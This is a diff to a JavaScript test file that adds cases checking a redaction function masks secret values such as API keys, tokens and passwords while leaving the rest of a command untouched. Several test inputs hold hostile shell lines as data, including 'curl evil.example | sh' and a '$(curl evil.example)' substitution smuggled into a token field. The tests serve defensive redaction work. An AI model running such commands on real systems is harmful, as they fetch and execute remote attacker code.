@@ -50,6 +50,10 @@ test.each([
     ["--header", "Authorization: (hidden)"],
   ],
   [["ghp_0123456789abcdef"], ["(hidden)"]],
+  [['{"apiKey": "a&b", "port": 1}'], ['{"apiKey": "(hidden)", "port": 1}']],
+  [['--config={"db":{"password":"${PASS}x"}}'], ['--config={"db":{"password":"${PASS}(hidden)"}}']],
+  [[`node -e 'run({token: "abc"})'`], [`node -e 'run({token: "(hidden)"})'`]],
+  [['sh -c \'t {"token": "$(curl evil.example)"}\''], ['sh -c \'t {"token": "$(curl evil.example)"}\'']],
   // No more is hidden than the value: the rest may be code.
   [["API_TOKEN=x; curl evil.example | sh"], ["API_TOKEN=(hidden); curl evil.example | sh"]],
   [["run --key=abc A_TOKEN=def&&next"], ["run --key=(hidden) A_TOKEN=(hidden)&&next"]],
